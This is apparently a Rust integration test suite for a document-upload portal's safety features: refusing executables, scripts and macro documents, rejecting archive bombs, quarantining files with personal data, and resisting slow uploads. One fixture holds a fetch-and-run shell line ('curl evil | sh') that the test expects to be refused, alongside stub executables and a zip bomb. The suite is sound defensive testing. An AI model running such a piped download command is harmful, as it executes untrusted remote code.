//! Upload safety through the real server: types refused by content, archive bombs, and the
//! three personal-data actions (flag, quarantine with release, block). Malware scanning with
//! a real clamd is in `malware.rs`.

use courier_scan::fixtures::{Entry, docx, docx_with, pdf, zip};

use crate::harness::{Env, client, upload};

const SSN_LETTER: &[u8] = b"Dear counsel,\nthe claimant's social security number is 123-45-6789.\nRegards\n";

fn problem_detail(body: &serde_json::Value) -> String {
    body["detail"].as_str().unwrap_or_default().to_owned()
}

fn refused_events(env: &Env) -> Vec<serde_json::Value> {
    env.audit_events().into_iter().filter(|e| e["action"] == "document.refused").collect()
}

#[tokio::test]
async fn disallowed_types_get_415_with_a_reason_and_leave_nothing() {
    let env = Env::start();
    let (_, token) = env.create_portal(&[]);
    let exe = [b"MZ\x90\0\x03\0\0\0".as_slice(), &[0u8; 512]].concat();
    let macro_docx = docx_with(&["Please enable content".to_owned()], &[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")]);
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("invoice.pdf", exe.clone(), "program"),
        ("setup.zip", zip(&[("readme.txt", b"hi", Entry::Deflated), ("setup.exe", &exe, Entry::Streamed)]), "program"),
        ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n".to_vec(), "script"),
        ("contract.pdf", b"plain text pretending to be a PDF".to_vec(), "ends in .pdf"),
        ("letter.docx", macro_docx, "macros"),
        ("letter.docm", docx(&["x".to_owned()]), "macros"),
        ("data.bin", vec![0, 1, 2, 3, 0xff, 0xfe, 0, 0], "cannot be uploaded"),
    ];
    for (name, data, reason) in &cases {
        let resp = upload(env.base(), &token, &[(name, data)]).await;
        assert_eq!(resp.status(), 415, "{name}");
        let body: serde_json::Value = resp.json().await.unwrap();
        assert!(problem_detail(&body).contains(reason), "{name}: {body}");
    }
    // All or nothing: a good file next to a refused one is not kept either.
    let resp = upload(env.base(), &token, &[("fine.txt", b"fine"), ("evil.exe", &exe)]).await;
    assert_eq!(resp.status(), 415);
    assert!(env.docs(None).is_empty());
    assert!(env.blob_files().is_empty(), "{:?}", env.blob_files());
    let refused = refused_events(&env);
    assert_eq!(refused.len(), cases.len() + 1);
    assert!(refused.iter().all(|e| e["details"]["reason"] == "type"), "{refused:?}");
    // The audit trail never carries the file's name.
    let trail = serde_json::to_string(&env.audit_events()).unwrap();
    assert!(!trail.contains("invoice.pdf") && !trail.contains("evil.exe"));
    assert!(env.audit_ok());
}

#[tokio::test]
async fn a_portal_narrows_the_allowlist_and_bad_type_names_are_refused() {
    let env = Env::start();
    let (portal, token) = env.create_portal(&["--allow-types", "pdf"]);
    let shown = env.cli_json(&["portal", "show", &portal, "--json"], None);
    assert_eq!(shown["allowed_types"], serde_json::json!(["pdf"]));
    // The client is told before choosing a file, and the picker offers PDFs.
    let page = client().get(format!("{}/p/{token}", env.base())).send().await.unwrap().text().await.unwrap();
    assert!(page.contains("Accepted: PDF.") && page.contains(r#"accept=".pdf""#), "{page}");
    let resp = upload(env.base(), &token, &[("note.txt", b"hello")]).await;
    assert_eq!(resp.status(), 415);
    let body: serde_json::Value = resp.json().await.unwrap();
    assert!(problem_detail(&body).contains("accepted types: PDF"), "{body}");
    let brief = pdf(&[vec!["Brief, page one".to_owned()]]);
    assert_eq!(upload(env.base(), &token, &[("brief.pdf", &brief)]).await.status(), 201);
    let (ok, _, err) = env.cli(&["portal", "create", "--label", "L", "--allow-types", "pdf,exe"], None);
    assert!(!ok && err.contains("unknown file type \"exe\""), "{err}");
}

#[tokio::test]
async fn an_archive_bomb_is_refused_without_being_expanded() {
    let env = Env::start();
    let (_, token) = env.create_portal(&[]);
    // 256 MiB of one letter in a ~250 KiB archive, streamed (no sizes in the header).
    let bomb = zip(&[("report.txt", &vec![b'a'; 256 << 20], Entry::Streamed)]);
    assert!(bomb.len() < 1 << 20);
    let resp = upload(env.base(), &token, &[("report.zip", &bomb)]).await;
    assert_eq!(resp.status(), 422);
    let body: serde_json::Value = resp.json().await.unwrap();
    assert!(problem_detail(&body).contains("archive bombs"), "{body}");
    assert!(env.docs(None).is_empty());
    assert!(env.blob_files().is_empty());
    assert_eq!(refused_events(&env)[0]["details"]["reason"], "content");
}

#[tokio::test]
async fn personal_data_is_flagged_quarantined_or_blocked_as_the_portal_says() {
    let env = Env::start();
    let (flag_portal, flag) = env.create_portal(&[]);
    let (quarantine_portal, quarantine) = env.create_portal(&["--dlp-action", "quarantine"]);
    let (_, block) = env.create_portal(&["--dlp-action", "block"]);

    // Flag (the default): accepted, marked, downloadable.
    assert_eq!(upload(env.base(), &flag, &[("letter.txt", SSN_LETTER)]).await.status(), 201);
    let doc = env.docs(Some(&flag_portal)).remove(0);
    assert_eq!(doc["scan"]["status"], "flagged", "{doc}");
    assert_eq!(doc["scan"]["malware"], serde_json::Value::Null);
    assert_eq!(doc["scan"]["findings"][0]["kind"], "ssn");
    assert_eq!(doc["scan"]["findings"][0]["count"], 1);
    let offset = SSN_LETTER.windows(11).position(|w| w == b"123-45-6789").unwrap();
    assert_eq!(doc["scan"]["findings"][0]["locations"][0]["offset"], offset);
    let out = env.dir.path().join("flagged.txt");
    assert!(env.cli(&["doc", "get", doc["id"].as_str().unwrap(), "--output", out.to_str().unwrap()], None).0);

    // Quarantine: accepted, held from every download until released with a reason.
    let claim = docx(&["Claim form".to_owned(), "Card on file: 4111 1111 1111 1111".to_owned()]);
    assert_eq!(upload(env.base(), &quarantine, &[("claim.docx", &claim)]).await.status(), 201);
    let held = env.docs(Some(&quarantine_portal)).remove(0);
    let id = held["id"].as_str().unwrap().to_owned();
    assert_eq!(held["scan"]["status"], "quarantined");
    assert_eq!(held["scan"]["held"], true);
    assert_eq!(held["scan"]["findings"][0]["kind"], "payment_card");
    assert_eq!(held["scan"]["findings"][0]["locations"][0]["part"], "word/document.xml");
    let out = env.dir.path().join("held.docx");
    let (ok, _, err) = env.cli(&["doc", "get", &id, "--output", out.to_str().unwrap()], None);
    assert!(!ok && err.contains("held"), "{err}");
    assert!(!out.exists());
    let (ok, _, err) = env.cli(&["doc", "release", &id, "--reason", " "], None);
    assert!(!ok && err.contains("reason"), "{err}");
    let released =
        env.cli_json(&["doc", "release", &id, "--reason", "client confirmed the card is cancelled", "--json"], None);
    assert_eq!(released["released"], true);
    let after = env.docs(Some(&quarantine_portal)).remove(0);
    assert_eq!((after["scan"]["status"].as_str(), after["scan"]["held"].as_bool()), (Some("flagged"), Some(false)));
    assert!(after["scan"]["released_at"].is_string());
    assert!(env.cli(&["doc", "get", &id, "--output", out.to_str().unwrap()], None).0);
    assert_eq!(std::fs::read(&out).unwrap(), claim);
    let (ok, _, err) = env.cli(&["doc", "release", &id, "--reason", "again"], None);
    assert!(!ok && err.contains("not held"), "{err}");

    // Block: refused, and the client is told which kind of data to redact.
    let resp = upload(env.base(), &block, &[("letter.txt", SSN_LETTER)]).await;
    assert_eq!(resp.status(), 422);
    let body: serde_json::Value = resp.json().await.unwrap();
    assert!(problem_detail(&body).contains("US social security numbers"), "{body}");
    // A few e-mail addresses alone do not make a document one of personal data.
    let resp =
        upload(env.base(), &block, &[("note.txt", b"Write to jane.doe@example.com or j.smith@example.com")]).await;
    assert_eq!(resp.status(), 201);

    // No matched value is stored or audited anywhere.
    let listing = serde_json::to_string(&env.docs(None)).unwrap();
    let trail = serde_json::to_string(&env.audit_events()).unwrap();
    for secret in ["123-45-6789", "4111 1111 1111 1111", "4111111111111111"] {
        assert!(!listing.contains(secret) && !trail.contains(secret), "{secret} leaked");
    }
    let release = env.audit_events().into_iter().find(|e| e["action"] == "document.release").expect("release audited");
    assert_eq!(release["details"]["reason"], "client confirmed the card is cancelled");
    assert!(env.audit_ok());
}

/// A quarantine portal with one held letter, and a signed-in staff member of `role`.
async fn held_letter(role: &str) -> (Env, String, String, reqwest::Client, String) {
    let env = Env::start();
    let (portal, token) = env.create_portal(&["--dlp-action", "quarantine"]);
    assert_eq!(upload(env.base(), &token, &[("letter.txt", SSN_LETTER)]).await.status(), 201);
    let id = env.docs(Some(&portal))[0]["id"].as_str().unwrap().to_owned();
    let c = client();
    let (csrf, _) = crate::harness::sign_in(&env, &c, &format!("{role}@firm.example"), role).await;
    (env, portal, id, c, csrf)
}

async fn release_on_web(env: &Env, c: &reqwest::Client, csrf: &str, id: &str, reason: &str) -> reqwest::StatusCode {
    c.post(format!("{}/documents/{id}/release", env.base()))
        .header("Origin", env.base())
        .form(&[("csrf_token", csrf), ("reason", reason)])
        .send()
        .await
        .unwrap()
        .status()
}

#[tokio::test]
async fn a_held_document_is_not_served_to_staff_either() {
    let (env, portal, id, c, csrf) = held_letter("attorney").await;
    let resp = c.get(format!("{}/documents/{id}/download", env.base())).send().await.unwrap();
    assert_eq!(resp.status(), 409);
    let zip = c.get(format!("{}/portals/{portal}/download.zip", env.base())).send().await.unwrap();
    assert_eq!(zip.status(), 400, "the only document is held, so there is nothing to download");
    // The page offers a release form instead of a download link.
    let page = c.get(format!("{}/portals/{portal}", env.base())).send().await.unwrap().text().await.unwrap();
    assert!(page.contains(&format!("/documents/{id}/release")) && !page.contains(&format!("/documents/{id}/download")));
    assert!(page.contains("1 × US social security numbers"), "{page}");
    assert_eq!(release_on_web(&env, &c, &csrf, &id, "redacted copy requested").await, 303);
    let resp = c.get(format!("{}/documents/{id}/download", env.base())).send().await.unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(resp.bytes().await.unwrap().as_ref(), SSN_LETTER);
}

#[tokio::test]
async fn a_paralegal_cannot_release() {
    let (env, portal, id, c, csrf) = held_letter("paralegal").await;
    assert_eq!(release_on_web(&env, &c, &csrf, &id, "looks fine to me").await, 403);
    assert_eq!(env.docs(Some(&portal))[0]["scan"]["held"], true);
}

#[tokio::test]
async fn the_firms_own_keywords_and_patterns_are_found() {
    let env = Env::start_with_config("dlp_keywords = [\"Project Falcon\"]\ndlp_patterns = ['MATTER-[0-9]{6}']\n");
    let (portal, token) = env.create_portal(&[]);
    let memo = b"Re: project falcon (internal ref MATTER-123456). Privileged.";
    assert_eq!(upload(env.base(), &token, &[("memo.txt", memo)]).await.status(), 201);
    let doc = env.docs(Some(&portal)).remove(0);
    assert_eq!(doc["scan"]["status"], "flagged");
    assert_eq!(doc["scan"]["findings"][0]["kind"], "keyword");
    assert_eq!(doc["scan"]["findings"][0]["count"], 2);
    // A pattern that is not a regular expression stops the server at start, saying which.
    let bad = Env::offline("dlp_patterns = ['([unclosed']\n");
    let (ok, _, err) = bad.cli(&["serve", "--bind", "127.0.0.1:0"], None);
    assert!(!ok && err.contains("([unclosed"), "{err}");
}

/// The slow-client attack on the read slots: a client sending a PDF slowly must not hold the
/// slot that reading a PDF's text takes, or a few of them stall every other PDF upload.
#[tokio::test]
async fn a_pdf_sent_slowly_does_not_hold_the_slot_other_pdfs_are_read_in() {
    use futures_util::StreamExt;
    let env = Env::start_with_config("scan_buffered_at_once = 1\nbusy_wait_secs = 5\n");
    let (portal, token) = env.create_portal(&[]);
    let mut rng = courier_scan::fixtures::Rng::new(7);
    let noise: Vec<String> =
        (0..20_000).map(|_| (0..80).map(|_| char::from(b'a' + rng.below(26) as u8)).collect()).collect();
    let file = pdf(&[noise, vec!["Card on file: 4111 1111 1111 1111".to_owned()]]);
    // Half of it is over one of the server's 256 KiB batches, so the inspector has begun.
    assert!(file.len() > 800 << 10, "{} bytes", file.len());
    // Half the file at once, then 1 KiB every 100 ms (above the minimum rate) until released.
    let released = std::sync::Arc::new(tokio::sync::Notify::new());
    let slow = {
        let (file, released) = (file.clone(), released.clone());
        let url = format!("{}/p/{token}/files", env.base());
        tokio::spawn(async move {
            let half = file.len() / 2;
            let head = futures_util::stream::iter([crate::harness::multipart_head("slow.pdf"), file[..half].to_vec()]);
            let rest = futures_util::stream::unfold((half, file, released), |(at, file, released)| async move {
                if at >= file.len() {
                    return None;
                }
                let fast = tokio::select! {
                    () = released.notified() => true,
                    () = tokio::time::sleep(std::time::Duration::from_millis(100)) => false,
                };
                let end = if fast { file.len() } else { (at + 1024).min(file.len()) };
                Some((file[at..end].to_vec(), (end, file, released)))
            });
            let tail = futures_util::stream::iter([format!("\r\n--{}--\r\n", crate::harness::BOUNDARY).into_bytes()]);
            let body = head.chain(rest).chain(tail).map(Ok::<_, std::io::Error>);
            crate::harness::post_multipart_stream(url, reqwest::Body::wrap_stream(body)).await.map(|r| r.status())
        })
    };
    tokio::time::sleep(std::time::Duration::from_secs(1)).await;
    // While the slow one is still arriving, a whole PDF is read at once: had the slow one taken
    // the only slot, this one would wait busy_wait_secs and get a 503.
    assert_eq!(upload(env.base(), &token, &[("whole.pdf", &file)]).await.status(), 201);
    assert!(!slow.is_finished(), "the slow upload ended before the test could use it");
    let docs = env.docs(Some(&portal));
    assert_eq!(docs.len(), 1);
    assert_eq!(docs[0]["scan"]["status"], "flagged", "{}", docs[0]);
    released.notify_one();
    assert_eq!(slow.await.unwrap().expect("slow upload"), 201);
    let docs = env.docs(Some(&portal));
    assert_eq!(docs.len(), 2);
    assert!(docs.iter().all(|d| d["scan"]["status"] == "flagged"), "{docs:?}");
}

#[tokio::test]
async fn a_pdf_larger_than_memory_holds_is_read_through_sealed_scratch_space() {
    let env = Env::start();
    let (portal, token) = env.create_portal(&[]);
    // Four pages of random letters (no detector matches, deflate cannot shrink them much), then
    // the card on page 5: over 1 MiB, so the inspector reads it from its scratch file.
    let mut rng = courier_scan::fixtures::Rng::new(5);
    let mut pages: Vec<Vec<String>> = (0..4)
        .map(|_| (0..7_500).map(|_| (0..80).map(|_| char::from(b'a' + rng.below(26) as u8)).collect()).collect())
        .collect();
    pages.push(vec!["Card on file: 4111 1111 1111 1111".to_owned()]);
    let file = pdf(&pages);
    assert!(file.len() > 3 << 19, "{} bytes", file.len());
    assert_eq!(upload(env.base(), &token, &[("bundle.pdf", &file)]).await.status(), 201);
    let doc = env.docs(Some(&portal)).remove(0);
    assert_eq!(doc["scan"]["status"], "flagged", "{doc}");
    assert_eq!(doc["scan"]["findings"][0]["kind"], "payment_card");
    assert_eq!(doc["scan"]["findings"][0]["locations"][0]["page"], 5);
    // The scratch file was unlinked when made; no stored file holds the upload's bytes.
    let scratch = env.data_dir().join("scratch");
    assert_eq!(std::fs::read_dir(&scratch).expect("scratch dir").count(), 0);
    let probe = &file[file.len() / 2..file.len() / 2 + 32];
    for (path, bytes) in env.all_files() {
        assert!(!bytes.windows(32).any(|w| w == probe), "{} holds the upload in the clear", path.display());
    }
}
